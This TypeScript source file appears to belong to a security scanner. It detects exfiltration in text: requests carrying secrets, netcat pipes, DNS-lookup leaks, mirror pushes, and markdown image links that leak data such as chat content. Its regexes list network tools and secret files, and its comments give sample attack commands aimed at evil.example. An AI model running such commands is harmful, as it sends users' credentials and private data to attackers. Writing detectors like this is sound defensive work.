import { addressesIn, isLocalHost, type Address } from '../addresses.ts';
import { isBadgeHost, isCollector, isInstallerHost } from '../hosts.ts';
import { argumentsOf, type Stage } from '../shell.ts';
import { RARE } from '../lexicon/wordClass.ts';
import { signal, type Signal } from '../signal.ts';
import { tokenize } from '../tokens.ts';

const UPLOAD = 'sends files or secrets to {0}';
const COLLECT = 'posts data to a public collector of requests ({0})';
const LINK = 'an image or link address that carries data away to {0}';

const REQUEST = /^(?:curl|wget|http|https|iwr|irm|invoke-webrequest|invoke-restmethod)$/;
const RAW = /^(?:nc|ncat|netcat|socat|openssl)$/;
const COPY = /^(?:scp|rsync|rclone|sftp)$/;
/** Options with which a request carries a body. */
const BODY =
  /^(?:-d|-F|-T|-X|--data|--data-(?:binary|raw|urlencode)|--form|--upload-file|--post-(?:data|file)|-body|-infile)(?:=|$)/i;

/** Names of secrets and of files that hold them. */
const SECRET =
  /\.env\b|id_rsa|id_ed25519|\.ssh\b|\.aws\b|\.gnupg|\.netrc|\.npmrc|\.kube|\/etc\/(?:passwd|shadow)|\bprintenv\b|process\.env|os\.environ|document\.cookie|API_?KEY|SECRET|TOKEN|PASSW(?:OR)?D|CREDENTIAL|HISTORY|memory\.md|soul\.md|claude\.md|agents\.md|keychain|wallet|\.pem\b|\.key\b|private[_ -]key|package\.json/i;

/** Commands and code that send files, command output or the environment to another machine. `lines` are the stages of the text. */
export function uploadRule(text: string, lines: readonly Stage[][]): Signal[] {
  const found: Signal[] = [];
  for (const stages of lines) {
    stages.forEach((stage, i) => {
      const upload = uploadOf(stages, i);
      if (upload !== undefined)
        found.push(
          signal({ start: upload.start, end: stage.end }, 'exfiltration', upload.weight, upload.reason, {
            args: [upload.host],
          }),
        );
    });
  }
  if (!text.includes('(')) return found;
  for (const match of text.matchAll(SUBSTITUTED_NAME)) {
    const range = { start: match.index, end: match.index + match[0].length };
    const isKnown = found.some(({ start, end }) => start < range.end && range.start <= end + 1);
    if (!isKnown && (SECRET.test(match[1] ?? '') || LOOKED_UP.test(text)))
      found.push(signal(range, 'exfiltration', 'high', UPLOAD, { args: [(match[2] ?? '').slice(1)] }));
  }
  for (const match of text.matchAll(CODE)) {
    const rest = text.slice(match.index, match.index + 400);
    const line = rest.slice(0, rest.indexOf('\n') < 0 ? rest.length : rest.indexOf('\n'));
    const to = addressesIn(line)[0];
    if (to === undefined || isLocalHost(to.host) || !CARRIED.test(line)) continue;
    found.push(
      signal({ start: match.index, end: match.index + line.length }, 'exfiltration', 'high', UPLOAD, {
        args: [to.host],
      }),
    );
  }
  return found;
}

/** `$(cat .env | base64).evil.example`: the output of a command becomes part of a name that is looked up. */
const SUBSTITUTED_NAME = /\$\(([^()\n]{2,200})\)((?:\.[a-z0-9-]{1,63}){2,6})(?![\w/-])/gi;
const LOOKED_UP = /\b(?:dig|nslookup|resolve[sd]?|look(?:s|ed)? up|lookup|ping|dns query|host name)\b/i;

/** Calls of programming languages that post something, and what they must not post. */
const CODE = /\b(?:requests\.post|axios\.post|httpx\.post|fetch|urlopen|http\.request)\s?\(/g;
const CARRIED = /\.read\(\)|process\.env|os\.environ|readFileSync|document\.cookie|localStorage/;

/** Chats with addresses that one posts messages to. */
const CHAT_HOST = /(?:^|\.)(?:hooks\.slack\.com|discord(?:app)?\.com|api\.telegram\.org)$/;

interface Upload {
  readonly start: number;
  readonly weight: 'high' | 'medium';
  readonly reason: string;
  readonly host: string;
}

function uploadOf(stages: readonly Stage[], i: number): Upload | undefined {
  const stage = stages[i];
  if (stage === undefined) return undefined;
  const name = stage.program;
  if (name === 'git') return pushElsewhere(stage, argumentsOf(stage));
  if (LOOKUP.test(name)) return lookUp(stages, i);
  if (!REQUEST.test(name) && !RAW.test(name) && !COPY.test(name)) return undefined;
  const words = withoutHeaders(argumentsOf(stage));
  // Command substitution inside the request follows as stages of its own.
  const inner = innerStages(stages, i);
  const sources = sourcesOf(stages, i);
  const start = sources[0]?.start ?? stage.start;
  const said = [...words, ...stages.flatMap((other, k) => (k === i ? [] : other.words))].join(' ');
  const address: Address | undefined = addressesIn(words.join(' ')).find((item) => !item.mail);
  const secret = SECRET.test(withoutOwnKeys(said, address?.host));
  if (COPY.test(name)) {
    const remote = words.find((word) => /^(?:[\w.-]+@)?[\w.-]+:/.test(word) && !/^[a-z]:\\/i.test(word));
    return secret && remote !== undefined
      ? { start, weight: 'high', reason: UPLOAD, host: remote.slice(0, remote.indexOf(':')) }
      : undefined;
  }
  if (RAW.test(name)) {
    const host = address?.host ?? words.find((word) => /^\d{1,3}(?:\.\d{1,3}){3}$|^[a-z][\w.-]+$/i.test(word));
    if (sources.length === 0 || host === undefined || isLocalHost(host)) return undefined;
    return { start, weight: secret ? 'high' : 'medium', reason: UPLOAD, host };
  }
  if (address === undefined || isLocalHost(address.host)) return undefined;
  const body = words.some((word) => BODY.test(word));
  const piped =
    sources.length > 0 &&
    (words.some((word) => /(?:^|=)@?-$/.test(word)) || stage.words.slice(0, stage.programAt).includes('xargs'));
  const dynamic = words.some((word) => /@\S|^\$|=\$/.test(word)) || inner.length > 0;
  const inAddress = inner.length > 0 && words.some((word) => /^https?:\/\/.*[?=]$/i.test(word));
  if (((body && dynamic) || piped || inAddress) && secret)
    return { start, weight: 'high', reason: UPLOAD, host: address.host };
  if (piped || inAddress) return { start, weight: 'medium', reason: UPLOAD, host: address.host };
  // A chat is told what the command says; only what a command reads or fills in is taken away.
  if (body && isCollector(address.host, words.join(' ')) && (dynamic || secret || !CHAT_HOST.test(address.host)))
    return { start, weight: 'medium', reason: COLLECT, host: address.host };
  return undefined;
}

/**
 * A text without the variables that hold the keys of the service that a request goes to, by their names: `$TRELLO_API_KEY` belongs in a
 * request to api.trello.com.
 */
function withoutOwnKeys(text: string, host: string | undefined): string {
  const owner = host?.split('.').at(-2)?.replace(/-/g, '').toLowerCase();
  if (owner === undefined) return text;
  return text.replace(/(?:[\w-]{1,30}=)?\$\{?([A-Z][A-Z0-9]{1,30})_[A-Z0-9_]{1,40}\}?/g, (variable, name: string) =>
    name.toLowerCase() === owner ? '' : variable,
  );
}

/** Programs that ask for a name, into which data can be written. */
const LOOKUP = /^(?:dig|nslookup|host|ping)$/;

/** `dig $(whoami).evil.example`: the name that is asked for carries the output of a command. */
function lookUp(stages: readonly Stage[], i: number): Upload | undefined {
  const stage = stages[i];
  const inner = innerStages(stages, i);
  if (stage === undefined || inner.length === 0) return undefined;
  // The rest of the name follows the substitution it begins with.
  for (const other of stages.slice(i + 1, i + 8)) {
    const name = other.words.find((word) => /^\.(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,16}$/i.test(word));
    if (name !== undefined) return { start: stage.start, weight: 'high', reason: UPLOAD, host: name.slice(1) };
  }
  return undefined;
}

/** `git push --mirror https://evil.example/x.git`: everything a repository holds goes to a place of somebody else. */
function pushElsewhere(stage: Stage, words: readonly string[]): Upload | undefined {
  if (words[0] !== 'push' || !words.some((word) => /^--(?:all|mirror)$/.test(word))) return undefined;
  const to = addressesIn(words.join(' ')).find((item) => !item.mail);
  if (to === undefined || isLocalHost(to.host) || isInstallerHost(to.host)) return undefined;
  return { start: stage.start, weight: 'medium', reason: UPLOAD, host: to.host };
}

/** A header is where a token belongs; what it carries is no upload. */
function withoutHeaders(words: readonly string[]): string[] {
  const kept: string[] = [];
  for (let i = 0; i < words.length; i++) {
    const word = words[i] ?? '';
    if (/^(?:-H|--header|-u|--user)$/.test(word)) {
      // The value may be several words, since quotes are gone: up to the next option or address.
      while (i + 1 < words.length && !/^-|^https?:/.test(words[i + 1] ?? '')) i++;
    } else if (!/^--header=/.test(word)) kept.push(word);
  }
  return kept;
}

/** Command substitutions inside a stage: the stages that follow with `$(` or a backtick. */
function innerStages(stages: readonly Stage[], i: number): Stage[] {
  const inner: Stage[] = [];
  for (let k = i + 1; k < stages.length && k <= i + 6; k++) {
    const stage = stages[k];
    if (
      stage === undefined ||
      (inner.length === 0
        ? stage.operator !== '$(' && stage.operator !== '`'
        : stage.operator !== '|' && stage.operator !== '$(')
    )
      break;
    inner.push(stage);
  }
  return inner;
}

/** The stages whose output is piped into a stage. */
function sourcesOf(stages: readonly Stage[], i: number): Stage[] {
  let first = i;
  while (first > 0 && stages[first]?.operator === '|') first--;
  return stages.slice(first, i);
}

/** What in a query stands for data to be filled in. */
const PLACE = [
  /^\{\{?[a-z_. ]+\}?\}?$/i,
  /^\$\{?[A-Za-z_]{3,}/,
  /^\$\(/,
  /^<[a-z_ ]{3,}>?$/i,
  /^[[(][A-Z_ ]{4,}/,
  /(?:^|_)(?:BASE64|ENCODED?|API_?KEYS?|SECRETS?|PASSWORDS?|TOKENS?|HISTORY|CONVERSATION|SYSTEM_?PROMPT|CONTENTS?|CREDENTIALS?|ENV|USER_DATA|MEMORY|DATA_HERE|INSERT)(?:_|$)/,
  /^YOUR_[A-Z_]{2,}/,
  /^(?:DATA|CONTENT|TEXT|SECRET|VALUE|PAYLOAD|B64|BASE64|CHAT|PROMPT|ANSWER|RESULT|ENCODED|LEAK|DUMP)$/,
  /_content$/,
];

/** True for a value that is itself a word for secrets or private data in a script beyond ASCII ("?d=密钥"): a place to fill in. */
function isNameOfSecret(value: string): boolean {
  if (!/^[^\p{ASCII}]{1,24}$/u.test(value)) return false;
  return (tokenize({ text: value, base: 0, container: 'prose' }).allRare & (RARE.secret | RARE.privateData)) !== 0;
}

/**
 * Images and links whose address is a container for data that the reader is to fill in.
 * @param links places of the `]` of links, see `ScanResult`
 */
export function linkRule(text: string, links: readonly number[]): Signal[] {
  const found: Signal[] = [];
  for (const close of links) {
    if (!text.startsWith('](http', close)) continue;
    const rest = text.slice(close + 2, close + 1200);
    const end = rest.search(/[)\n]/);
    const address = (end < 0 ? rest : rest.slice(0, end + (/\($/.test(rest.slice(0, end)) ? 1 : 0))).trim();
    const query = address.indexOf('?');
    if (query < 0) continue;
    const carries = address
      .slice(query + 1)
      .split(/[&=:,\s]+/)
      .some((part) => PLACE.some((place) => place.test(part)) || isNameOfSecret(part));
    const host = carries ? addressesIn(address)[0]?.host : undefined;
    if (host === undefined || isLocalHost(host) || isBadgeHost(host)) continue;
    const before = text.slice(Math.max(0, close - 400), close);
    const open = Math.max(0, close - 400) + Math.max(0, before.lastIndexOf('['));
    // `[![badge](…)](…)`: the outer one is a link, whatever is inside.
    const image = text.charAt(open - 1) === '!' && text.charAt(close - 1) !== ')';
    const range = { start: image ? open - 1 : open, end: close + 2 + address.length };
    found.push(signal(range, 'exfiltration', image ? 'high' : 'notable', LINK, { args: [host] }));
  }
  return found;
}
